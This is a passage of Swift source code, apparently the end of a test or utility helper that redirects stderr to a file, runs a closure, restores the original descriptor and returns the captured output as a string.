        let saved = dup(2)
        dup2(file, 2)
        close(file)
        defer {
            fflush(nil)  // every stream: naming stderr is not concurrency-safe
            dup2(saved, 2)
            close(saved)
        }
        try body()
        fflush(nil)  // every stream: naming stderr is not concurrency-safe
        return (try? String(contentsOfFile: path, encoding: .utf8)) ?? ""
    }
}
